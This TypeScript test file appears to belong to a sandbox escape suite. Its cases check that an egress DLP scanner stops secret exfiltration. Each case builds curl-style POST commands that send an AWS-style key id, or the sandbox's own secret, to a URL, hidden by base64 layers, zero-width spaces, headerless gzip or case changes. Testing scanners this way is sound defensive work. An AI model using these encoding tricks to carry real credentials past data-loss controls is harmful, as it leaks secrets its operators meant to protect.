/**
 * DLP pattern gaps (issue 11, item 5): each case carries a fresh AWS-style
 * key id (or the bottle's own secret) out in a shape pattern matching used to
 * miss. Failing before the egress mode of the scanner, stopped after.
 */
import { gzipSync } from 'node:zlib';
import type { EscapeCase, Outcome } from '../suite.js';
import type { World } from '../world.js';
import { carry, withFile } from './dlp.js';

const b64 = (s: string | Buffer): string => Buffer.from(s).toString('base64');

function gapCase(id: string, attack: string, run: (w: World, key: string) => Promise<Outcome>): EscapeCase {
  return { id: `dlp/${id}`, category: 'dlp', attack, expect: 'stopped', run: (w) => run(w, w.marker()) };
}

export const dlpEncodingCases: EscapeCase[] = [
  gapCase('glued-letter-before', 'a letter glued before the key (xAKIA…)', (w, k) => carry(w, k, (u) => `'${u}?k=x${k}'`)),
  gapCase('glued-letter-after', 'a letter glued after the key', (w, k) => carry(w, k, (u) => `'${u}?k=${k}z'`)),
  gapCase('base64-once', 'the key id base64-encoded once (28 characters)', (w, k) => carry(w, b64(k), (u) => `'${u}?k=${encodeURIComponent(b64(k))}'`)),
  gapCase('base64-short-wrap', 'base64 wrapped at 8 columns', async (w, k) => {
    const wrapped = (b64(`id=${k}`).match(/.{1,8}/g) ?? []).join('\n');
    await withFile(w, 'wrap.txt', Buffer.from(wrapped));
    return carry(w, k, (u) => `-X POST -H 'content-type: text/plain' --data-binary @/tmp/wrap.txt ${u}`);
  }),
  gapCase('base64url-offset-1', 'base64url of the key behind one junk character', (w, k) => {
    const v = `x${Buffer.from(`k:${k}`).toString('base64url')}`;
    return carry(w, v, (u) => `'${u}?v=${v}'`);
  }),
  gapCase('base64url-offset-2', 'base64url of the key behind two junk characters', (w, k) => {
    const v = `xy${Buffer.from(`k:${k}`).toString('base64url')}`;
    return carry(w, v, (u) => `'${u}?v=${v}'`);
  }),
  gapCase('base64-twice', 'a second layer of base64', (w, k) => carry(w, b64(b64(k)), (u) => `'${u}?v=${encodeURIComponent(b64(b64(k)))}'`)),
  gapCase('zero-width', 'zero-width spaces between the characters of the key', async (w, k) => {
    await withFile(w, 'zw.txt', Buffer.from([...k].join('\u200b')));
    return carry(w, k, (u) => `-X POST -H 'content-type: text/plain; charset=utf-8' --data-binary @/tmp/zw.txt ${u}`);
  }),
  gapCase('gzip-without-header', 'a gzip body sent without Content-Encoding', async (w, k) => {
    await withFile(w, 'raw.gz', gzipSync(`key=${k}\n`));
    return carry(w, k, (u) => `-X POST -H 'content-type: application/octet-stream' --data-binary @/tmp/raw.gz ${u}`);
  }),
  gapCase('known-secret-uppercased', "the bottle's own secret uppercased", (w) => carry(w, w.known.toUpperCase(), (u) => `-X POST --data-binary "x=$(printf %s "$KNOWN_SECRET" | tr a-z A-Z)" ${u}`)),
];
